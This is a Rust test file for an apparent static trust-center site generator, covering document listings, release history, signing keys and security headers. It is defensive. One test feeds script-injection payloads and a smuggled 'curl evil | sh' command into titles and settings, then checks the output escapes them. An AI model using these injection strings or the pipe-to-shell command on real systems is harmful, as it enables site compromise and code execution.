//! What visitors are told of releases and of documents, so that they can compare what they have.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use serde_json::Value;
use trustdesk_core::bundle::{Bundle, Key, Signer, differences};
use trustdesk_core::check;
use trustdesk_core::model::{Date, PageRef};
use trustdesk_core::release::{kept, published_documents, sign};
use trustdesk_core::render::{self, SiteIndex};
use trustdesk_core::site::{PublishedDocument, ReleaseNote, Site};
use trustdesk_core::store::{Hash, Store};
use trustdesk_tests::{TempSite, bundle, engine, release};

const DAY: &str = "2026-11-26";

fn documents(root: &Path) -> Vec<PublishedDocument> {
    let store = Store::open(root).unwrap();
    let site = Site::load(&store, &engine().kinds).unwrap();
    published_documents(&engine(), &site, Date::parse(DAY).unwrap())
}

/// A site with documents that are shown, and ones that are kept back in every way.
fn with_documents() -> TempSite {
    let site = TempSite::new();
    for (name, words) in [
        ("policy", "%PDF-1.4 the policy"),
        ("policy-zh", "%PDF-1.4 the policy in Chinese"),
        ("terms", "%PDF-1.4 the terms"),
        ("linked", "%PDF-1.4 linked from a text"),
        ("hidden", "%PDF-1.4 of a hidden record"),
        ("notice", "%PDF-1.4 of a record for notice only"),
        ("nda", "%PDF-1.4 under a non-disclosure agreement"),
        ("dark", "%PDF-1.4 linked from what is hidden"),
        ("unused", "%PDF-1.4 used by nothing"),
    ] {
        site.write(&format!("media/documents/{name}.pdf"), words);
    }
    site.write(
        "records/documents.toml",
        r#"[policy]
title = { en = "Security policy", zh-Hans = "安全政策" }
category = "policy"
file = { en = "/media/documents/policy.pdf", zh-Hans = "/media/documents/policy-zh.pdf" }
version = "3.1"
issued = 2026-08-14
owner = "Inner circle"
note = "Secret of the policy"

[hidden]
title = "Hidden title"
category = "policy"
file = "/media/documents/hidden.pdf"
visibility = "hidden"

[notice]
title = "Told of, not given"
category = "policy"
file = "/media/documents/notice.pdf"
visibility = "notice"

[nda]
title = "Given to some"
category = "policy"
file = "/media/documents/nda.pdf"
access = "nda"
"#,
    );
    site.write(
        "records/agreements.toml",
        "[terms]\ntitle = \"Terms\"\ntype = \"terms\"\nversion = \"7\"\neffective = 2026-01-02\nfile = \"/media/documents/terms.pdf\"\n",
    );
    site.write(
        "records/assets.toml",
        "[\"documents/linked.pdf\"]\nversion = \"0.9\"\ndate = 2025-05-05\n",
    );
    let page = |kept_back: &str| {
        format!(
            "+++\ntitle = \"Documents\"\n+++\n\n::: documents {{#documents}}\nheading = \"Documents\"\n:::\n\n::: agreements\n:::\n\n::: text\nRead [this](/media/documents/linked.pdf).\n:::\n\n::: text {{hidden}}\nRead [that](/media/documents/{kept_back}.pdf).\n:::\n"
        )
    };
    site.write("pages/en/index.md", page("dark"));
    site.write("pages/zh-Hans/index.md", page("dark"));
    site
}

#[test]
fn documents_are_told_with_what_their_records_say_and_nothing_kept_back() {
    let site = with_documents();
    let found = documents(site.root());
    let lines: Vec<String> = found
        .iter()
        .map(|one| {
            let title = one.title.get("en");
            format!(
                "{} {} {} {title} {} {}",
                one.path, one.record, one.language, one.version, one.date
            )
        })
        .collect();
    assert_eq!(
        lines,
        [
            "media/documents/linked.pdf   linked.pdf 0.9 2025-05-05",
            "media/documents/policy-zh.pdf documents/policy zh-Hans Security policy 3.1 2026-08-14",
            "media/documents/policy.pdf documents/policy en Security policy 3.1 2026-08-14",
            "media/documents/terms.pdf agreements/terms  Terms 7 2026-01-02",
        ]
    );
    assert_eq!(
        found[2].sha256,
        Hash::of(b"%PDF-1.4 the policy").to_string()
    );
}

#[test]
fn documents_are_exactly_those_that_an_export_holds() {
    let content = Path::new(env!("CARGO_MANIFEST_DIR")).join("../content");
    let told: BTreeSet<String> = documents(&content)
        .into_iter()
        .map(|one| format!("{} {}", one.sha256, one.path))
        .collect();
    let bundle = bundle(&content, DAY).unwrap();
    let held: BTreeSet<String> = bundle
        .manifest()
        .files()
        .iter()
        .filter(|(path, _)| path.ends_with(".pdf"))
        .map(|(path, stated)| format!("{} {path}", stated.hash))
        .collect();
    assert!(told.len() > 5, "{told:?}");
    assert_eq!(told, held);
}

#[test]
fn a_note_with_documents_reads_back_as_it_was_written() {
    let site = with_documents();
    let note = ReleaseNote {
        number: 2,
        date: "2026-11-26".into(),
        documents: documents(site.root()),
        ..ReleaseNote::default()
    };
    site.write(
        "releases/0002/release.toml",
        toml::to_string(&note).unwrap(),
    );
    let store = Store::open(site.root()).unwrap();
    let loaded = Site::load(&store, &engine().kinds).unwrap();
    assert_eq!(loaded.releases, [note]);
}

/// The same with the two sections that tell of releases and documents.
fn with_sections() -> TempSite {
    let site = with_documents();
    for locale in ["en", "zh-Hans"] {
        site.write(
            &format!("pages/{locale}/releases.md"),
            "+++\ntitle = \"Releases\"\nsummary = \"All of them.\"\n+++\n\n::: releases {#releases}\nheading = \"History\"\nmost = 2\nverify = true\n:::\n\n::: check-copy {#check}\nheading = \"Check\"\n:::\n",
        );
    }
    site
}

/// The texts of all files of a bundle, by path.
fn texts(bundle: &Bundle) -> BTreeMap<String, String> {
    let paths = bundle.manifest().paths();
    let text = |path: &str| String::from_utf8_lossy(&bundle.read(path).unwrap()).into_owned();
    paths.map(|path| (path.to_owned(), text(path))).collect()
}

/// What the JSON twin of the page says of one section.
fn section(files: &BTreeMap<String, String>, kind: &str) -> Value {
    let page: Value = serde_json::from_str(&files["en/releases.json"]).unwrap();
    let sections = page["sections"].as_array().unwrap();
    let found = sections.iter().find(|section| section["kind"] == kind);
    found.unwrap().clone()
}

/// What is said of the document with these bytes: state and statement.
fn said(files: &BTreeMap<String, String>, bytes: &str) -> (String, String) {
    let hash = Hash::of(bytes.as_bytes()).to_string();
    let section = section(files, "check-copy");
    let copies = section["copies"].as_array().unwrap();
    let copy = copies.iter().find(|copy| copy["sha256"] == hash).unwrap();
    let text = |name: &str| copy[name].as_str().unwrap().to_owned();
    let (state, statement) = (text("state"), text("statement"));
    // People without a script, and programs that read Markdown, are told the same.
    let html = &files["en/releases.html"];
    let digest = format!("<td><code>{hash}</code></td>");
    let row = html.split_once(&digest).unwrap().0;
    let row = row.rsplit("<tr ").next().unwrap();
    assert!(row.starts_with(&format!("data-copy=\"{state}\"")), "{row}");
    assert!(row.contains(&statement), "{row}");
    assert!(files["en/releases.md"].contains(&hash));
    (state, statement)
}

#[test]
fn documents_of_earlier_releases_are_told_as_superseded_or_gone() {
    let site = with_sections();
    release(site.root(), "2026-11-26").unwrap();
    site.write("media/documents/policy.pdf", "%PDF-1.4 the new policy");
    let records = site.text("records/documents.toml").replace("3.1", "4.0");
    site.write("records/documents.toml", records);
    release(site.root(), "2026-11-27").unwrap();
    site.write("records/agreements.toml", "");
    release(site.root(), "2026-11-28").unwrap();
    let store = Store::open(site.root()).unwrap();
    let files = texts(&kept(&store, 3).unwrap());
    let of = |bytes: &str| said(&files, bytes);
    let superseded = "It was superseded with release 2 of 27 November 2026. In its place now: “Security policy” (English), version 4.0.";
    assert_eq!(
        of("%PDF-1.4 the policy"),
        ("superseded".into(), superseded.into())
    );
    let current = "It is the current version, first published with release 2 of 27 November 2026.";
    assert_eq!(
        of("%PDF-1.4 the new policy"),
        ("current".into(), current.into())
    );
    let unchanged =
        "It is the current version, first published with release 1 of 26 November 2026.";
    assert_eq!(
        of("%PDF-1.4 linked from a text"),
        ("current".into(), unchanged.into())
    );
    let gone = "It is no longer published since release 3 of 28 November 2026.";
    assert_eq!(of("%PDF-1.4 the terms"), ("withdrawn".into(), gone.into()));
    // The release before says what was true then.
    let files = texts(&kept(&store, 1).unwrap());
    let first = "It is the current version, first published with release 1 of 26 November 2026.";
    assert_eq!(
        said(&files, "%PDF-1.4 the policy"),
        ("current".into(), first.into())
    );
}

#[test]
fn every_release_is_told_newest_first_and_leads_to_its_proof() {
    let site = with_sections();
    let settings = site.text("site.toml");
    let key = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
    site.write(
        "site.toml",
        format!("{settings}[releases]\nkey = \"{key}\"\n"),
    );
    for day in ["2026-11-24", "2026-11-25", "2026-11-26"] {
        release(site.root(), day).unwrap();
    }
    let files = texts(&bundle(site.root(), DAY).unwrap());
    let told = section(&files, "releases");
    let all = told["releases"].as_array().unwrap().iter();
    let numbers: Vec<_> = all.map(|one| one["number"].as_u64().unwrap()).collect();
    assert_eq!(numbers, [3, 2, 1]);
    assert_eq!(told["releases"][0]["date"], "2026-11-26");
    assert_eq!(
        told["releases"][2]["notes"],
        "What changed until 2026-11-24."
    );
    let html = &files["en/releases.html"];
    let (shown, folded) = html.split_once("<details class=\"changes\"").unwrap();
    assert!(shown.contains("id=\"release-2\"") && !shown.contains("id=\"release-1\""));
    assert!(folded.contains("id=\"release-1\""));
    for proof in [
        "../manifest.json",
        "../SHA256SUMS",
        "../manifest.json.minisig",
    ] {
        assert!(html.contains(&format!("<a href=\"{proof}\">")), "{proof}");
    }
    assert!(html.contains(&format!("minisign -V -m manifest.json -P {key}")));
    let feed = &files["zh-Hans/releases.atom"];
    assert_eq!(feed.matches("<entry>").count(), 3);
    assert!(feed.contains("<id>https://trust.example.com/zh-Hans/releases#3</id>"));
    assert!(feed.contains("href=\"https://trust.example.com/zh-Hans/releases.html#release-3\""));
    assert!(html.contains("href=\"../en/releases.feed.json\""));
}

#[test]
fn a_key_that_is_none_is_a_problem_and_is_shown_to_nobody() {
    let key = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
    let cases = [
        (String::new(), None, false),
        (key.to_owned(), Some(key), false),
        (format!(" {key}\n"), Some(key), false),
        (
            format!("untrusted comment: of ours\n{key}\n"),
            Some(key),
            false,
        ),
        (key[..55].to_owned(), None, true),
        (format!("{key}\n{key}"), None, true),
        (key.replace("RW", "XX"), None, true),
        (key.replace('7', " "), None, true),
        ("The key of our security team".to_owned(), None, true),
    ];
    let site = with_sections();
    release(site.root(), DAY).unwrap();
    let settings = site.text("site.toml");
    for (said, shown, faulty) in cases {
        site.write(
            "site.toml",
            format!("{settings}[releases]\nkey = '''{said}'''\n"),
        );
        let store = Store::open(site.root()).unwrap();
        let loaded = Site::load(&store, &engine().kinds).unwrap();
        let index = SiteIndex::build(&engine(), &loaded, Date::parse(DAY).unwrap());
        let problems = check::site(&engine(), &index, &loaded).into_iter();
        let found: Vec<_> = problems.filter(|one| one.code == "release-key").collect();
        assert_eq!(!found.is_empty(), faulty, "{said}");
        for problem in found {
            let place = (problem.place.file.as_str(), problem.place.field.as_deref());
            assert_eq!(place, ("site.toml", Some("releases.key")));
            assert!(problem.hint.to_string().contains(".pub"));
        }
        let html = &texts(&bundle(site.root(), DAY).unwrap())["en/releases.html"];
        let command = html.split("manifest.json -P ").nth(1);
        assert_eq!(command.map(|rest| &rest[..56]), shown, "{said}");
    }
}

#[test]
fn the_history_leads_only_to_what_is_there() {
    let site = with_sections();
    let key = Key::generate("four words are enough").unwrap();
    let signer = Signer::open(&key.secret, "four words are enough").unwrap();
    let settings = format!(
        "{}[releases]\nkey = \"{}\"\n",
        site.text("site.toml"),
        key.public.line()
    );
    site.write("site.toml", settings);
    release(site.root(), DAY).unwrap();
    let store = Store::open(site.root()).unwrap();
    sign(&store, 1, &signer).unwrap();
    let out = tempfile::tempdir().unwrap();
    let [plain, signed] = ["plain", "signed"].map(|name| out.path().join(name));
    trustdesk_tests::export(site.root(), &plain, DAY, None).unwrap();
    trustdesk_core::release::export(&store, 1, &signed, &|_| true).unwrap();
    for (folder, proven) in [(plain, false), (signed, true)] {
        let html = std::fs::read_to_string(folder.join("en/releases.html")).unwrap();
        assert!(html.contains("id=\"release-1\""));
        assert_eq!(html.contains("minisign -V"), proven);
        let (mut links, mut signatures) = (0, 0);
        for href in html.split("href=\"").skip(1) {
            let href = href.split('"').next().unwrap();
            let path = href.split(['#', '?']).next().unwrap();
            if path.is_empty() || path.contains(':') {
                continue;
            }
            assert!(folder.join("en").join(path).is_file(), "{href}");
            links += 1;
            signatures += usize::from(path.ends_with(".minisig"));
        }
        assert!(links > 5 && signatures == usize::from(proven), "{links}");
        // Each is what the sources give, made again.
        let loaded = Site::load(&store, &engine().kinds).unwrap();
        let made = Bundle::open(&folder).unwrap();
        let differ = differences(made.manifest(), &engine(), &loaded, &store, &|_| true);
        assert_eq!(differ.unwrap(), []);
    }
}

#[test]
fn before_the_first_release_nothing_is_promised() {
    let files = texts(&bundle(with_sections().root(), DAY).unwrap());
    let html = &files["en/releases.html"];
    assert!(html.contains("Nothing has been released yet."));
    assert!(!html.contains("manifest.json") && !html.contains("release 1"));
    assert!(!files.contains_key("en/releases.atom"));
    let current = (
        "current".to_owned(),
        "It is the current version.".to_owned(),
    );
    assert_eq!(said(&files, "%PDF-1.4 the policy"), current);
    let site = TempSite::new();
    site.write(
        "pages/en/releases.md",
        "+++\ntitle = \"R\"\n+++\n\n::: check-copy\n:::\n",
    );
    let files = texts(&bundle(site.root(), DAY).unwrap());
    let html = &files["en/releases.html"];
    assert!(html.contains("Nothing is listed here at the moment.") && !html.contains("script-src"));
}

#[test]
fn what_is_kept_back_is_in_no_byte_of_pages_that_tell_of_documents() {
    let site = with_sections();
    release(site.root(), "2026-11-26").unwrap();
    release(site.root(), "2026-11-27").unwrap();
    let kept_back = [
        "hidden record",
        "notice only",
        "non-disclosure",
        "what is hidden",
        "used by nothing",
    ];
    let hashes = ["hidden", "notice", "nda", "dark", "unused"].map(|name| {
        let bytes = site.bytes(&format!("media/documents/{name}.pdf"));
        Hash::of(&bytes).to_string()
    });
    for (path, text) in texts(&bundle(site.root(), DAY).unwrap()) {
        for kept in ["Hidden title", "Secret of", "Inner circle"] {
            assert!(!text.contains(kept), "{path} holds {kept}");
        }
        for kept in kept_back {
            assert!(
                !text.contains(&format!("%PDF-1.4 {kept}")),
                "{path} is kept back"
            );
        }
        for hash in &hashes {
            assert!(!text.contains(hash.as_str()), "{path} tells of {hash}");
        }
    }
}

#[test]
fn a_release_rendered_again_says_the_same() {
    let site = with_sections();
    release(site.root(), "2026-11-25").unwrap();
    site.write("media/documents/policy.pdf", "%PDF-1.4 the new policy");
    release(site.root(), "2026-11-26").unwrap();
    let store = Store::open(site.root()).unwrap();
    let made = kept(&store, 2).unwrap();
    let again = bundle(site.root(), "2026-11-26").unwrap();
    assert_eq!(made.manifest().files(), again.manifest().files());
}

#[test]
fn no_title_breaks_out_of_the_page_and_only_its_script_may_run() {
    let site = with_sections();
    let hostile = "</table></script><script>alert(1)</script><img src=x onerror=alert(2)>\\\" onload=\\\"{number} {name} javascript:";
    let records = site.text("records/documents.toml");
    let records = records
        .replace("Security policy", hostile)
        .replace("3.1", hostile);
    site.write("records/documents.toml", records);
    let settings = site.text("site.toml");
    site.write(
        "site.toml",
        format!("{settings}[releases]\nkey = \"RW; curl evil | sh #{hostile}\"\n"),
    );
    let note = ReleaseNote {
        number: 1,
        date: "2026-11-20".into(),
        notes: trustdesk_core::model::Localised::One(hostile.replace('\\', "")),
        documents: vec![PublishedDocument {
            title: trustdesk_core::model::Localised::One(hostile.replace('\\', "")),
            sha256: format!("\"><script>{}", "a".repeat(54)),
            path: "javascript:alert(3)".into(),
            ..PublishedDocument::default()
        }],
        ..ReleaseNote::default()
    };
    site.write(
        "releases/0001/release.toml",
        toml::to_string(&note).unwrap(),
    );
    let files = texts(&bundle(site.root(), DAY).unwrap());
    for (path, text) in files.iter().filter(|(path, _)| path.ends_with(".html")) {
        let own = usize::from(path.ends_with("/releases.html"));
        let data = text
            .matches("<script type=\"application/ld+json\">")
            .count();
        assert_eq!(
            text.matches("<script").count(),
            data + own,
            "{path}: {text}"
        );
        assert_eq!(text.matches("script-src").count(), own, "{path}");
        assert!(
            !text.contains("<img src=x") && !text.contains("curl evil"),
            "{path}"
        );
        // What looks like a pattern in a title stays what it is.
        assert!(
            own == 0 || text.contains("{number} {name} javascript:"),
            "{path}"
        );
    }
    let html = &files["en/releases.html"];
    let policy = html
        .split("http-equiv=\"Content-Security-Policy\" content=\"")
        .nth(1)
        .unwrap();
    let policy = policy.split('"').next().unwrap().replace("&#39;", "'");
    let (hash, rest) = policy
        .strip_prefix("default-src 'none'; script-src 'sha256-")
        .unwrap()
        .split_once("'; ")
        .unwrap();
    assert_eq!(hash.len(), 44);
    assert_eq!(
        rest,
        "style-src 'self'; img-src 'self'; font-src 'self'; base-uri 'none'; form-action 'none'"
    );
    // The script speaks to nobody and writes no HTML.
    let script = html
        .split("<script>")
        .nth(1)
        .unwrap()
        .split("</script>")
        .next()
        .unwrap();
    for word in [
        "fetch",
        "XMLHttp",
        "sendBeacon",
        "WebSocket",
        "innerHTML",
        "eval",
        "import",
        "http:",
        "https:",
        ".src",
        "location",
    ] {
        assert!(!script.contains(word), "{word}");
    }
}

#[test]
fn files_for_hosts_are_written_only_when_they_are_wanted() {
    let site = with_sections();
    let files = texts(&bundle(site.root(), DAY).unwrap());
    assert!(!files.keys().any(|path| path.starts_with('_')));
    site.write("pages/en/other.md", "+++\ntitle = \"Other\"\n+++\n");
    let settings = site.text("site.toml");
    let with = |more: &str| {
        let redirects = "[redirects]\n\"/old page\" = \"/releases#check\"\n\"/gone\" = \"https://example.com/a b\"\n\"/other\" = \"/\"\n";
        site.write(
            "site.toml",
            format!("{settings}{redirects}[hosting]\n{more}"),
        );
        texts(&bundle(site.root(), DAY).unwrap())
    };
    assert!(!with("https-only = true\n").contains_key("_headers"));
    let files = with("files = true\n");
    assert_eq!(
        files["_redirects"]
            .lines()
            .filter(|line| line.starts_with("/en/"))
            .collect::<Vec<_>>(),
        [
            "/en/old%20page.html /en/releases.html#check 301",
            "/en/old%20page /en/releases.html#check 301",
            "/en/old%20page/index.html /en/releases.html#check 301",
            "/en/old%20page/ /en/releases.html#check 301",
            "/en/gone.html https://example.com/a%20b 301",
            "/en/gone https://example.com/a%20b 301",
            "/en/gone/index.html https://example.com/a%20b 301",
            "/en/gone/ https://example.com/a%20b 301",
        ]
    );
    let headers = &files["_headers"];
    assert!(!headers.contains("Strict-Transport-Security"));
    assert!(
        with("files = true\nhttps-only = true\n")["_headers"]
            .contains("Strict-Transport-Security: max-age=31536000")
    );
    // The script is allowed as the page itself allows it.
    let html = files["en/releases.html"].replace("&#39;", "'");
    let hash = headers
        .split("script-src ")
        .nth(1)
        .unwrap()
        .split(';')
        .next()
        .unwrap();
    assert!(html.contains(&format!("script-src {hash};")));
    let pages = ["en", "zh-Hans"].map(|locale| format!("pages/{locale}/releases.md"));
    for page in pages {
        let hidden = site.text(&page).replace("{#check}", "{#check hidden}");
        site.write(&page, hidden);
    }
    assert!(!with("files = true\n")["_headers"].contains("script-src"));
    no_address_gets_a_header_twice(headers);
}

/// No two rules that match one address name the same header: hosts would join the values.
fn no_address_gets_a_header_twice(headers: &str) {
    let mut rules: Vec<(&str, Vec<&str>)> = Vec::new();
    for line in headers.lines() {
        match line.strip_prefix("  ") {
            Some(header) => rules
                .last_mut()
                .unwrap()
                .1
                .push(header.split(':').next().unwrap()),
            None => rules.push((line, Vec::new())),
        }
    }
    let matches = |rule: &str, path: &str| match rule.split_once('*') {
        Some((before, after)) => path.starts_with(before) && path.ends_with(after),
        None => rule == path,
    };
    for path in [
        "/",
        "/index.html",
        "/en/a.html",
        "/en/a.md",
        "/zh-Hans/a.json",
        "/en/x.atom",
        "/en/c.ics",
        "/assets/beacon.css",
        "/media/a.pdf",
        "/media/a.json",
        "/manifest.json",
    ] {
        let named: Vec<_> = rules
            .iter()
            .filter(|(rule, _)| matches(rule, path))
            .flat_map(|(_, names)| names)
            .collect();
        let once: BTreeSet<_> = named.iter().collect();
        assert_eq!(once.len(), named.len(), "{path}: {named:?}");
        assert!(once.len() >= 5, "{path}: {named:?}");
    }
}

#[test]
fn the_documentation_names_the_headers_that_are_written() {
    let docs = include_str!("../../docs/hosting.md");
    let site = with_documents();
    let settings = site.text("site.toml");
    let hosting = "[hosting]\nfiles = true\nhttps-only = true\n";
    site.write("site.toml", format!("{settings}{hosting}"));
    let headers = &texts(&bundle(site.root(), DAY).unwrap())["_headers"];
    for line in headers.lines().filter(|line| line.starts_with("  ")) {
        let (name, value) = line.trim().split_once(": ").unwrap();
        assert!(docs.contains(value), "{name}: {value}");
    }
    // Each host that can set headers is told the same policy.
    let policy = headers.lines().nth(1).unwrap().trim();
    let policy = policy.split_once(": ").unwrap().1;
    for part in docs
        .split("\n## ")
        .filter(|part| part.contains("Content-Security-Policy"))
    {
        let title = part.lines().next().unwrap();
        assert!(part.contains(policy) || title.starts_with('#'), "{title}");
    }
    assert_eq!(docs.matches(policy).count(), 7);
}

#[test]
fn no_script_is_in_the_preview_the_gallery_or_pages_for_an_existing_site() {
    let site = with_sections();
    let mut session = trustdesk_tests::open(&site);
    let page = session.open_page(&PageRef::new("en", "/releases")).unwrap();
    assert!(page.preview.contains("data-copy-drop") && page.preview.contains("disabled"));
    assert!(!page.preview.contains("<script") && !page.preview.contains("script-src"));
    let store = Store::open(site.root()).unwrap();
    let loaded = Site::load(&store, &engine().kinds).unwrap();
    let index = SiteIndex::build(&engine(), &loaded, Date::parse(DAY).unwrap());
    let alone = render::sample(&engine(), &index, &loaded, "en", "check-copy", "a.css", "");
    assert!(alone.html.contains("data-copy=\"current\"") && !alone.html.contains("<script"));
    let settings = site.text("site.toml").replace("beacon", "classic");
    site.write("site.toml", format!("{settings}[hosting]\nfiles = true\n"));
    let files = texts(&bundle(site.root(), DAY).unwrap());
    let page = &files["en/releases.md"];
    assert!(
        page.contains("data-copy=\"current\"") && !page.contains("<script"),
        "{page}"
    );
    assert!(!page.contains("data-copy-drop") && !files.contains_key("_headers"));
}
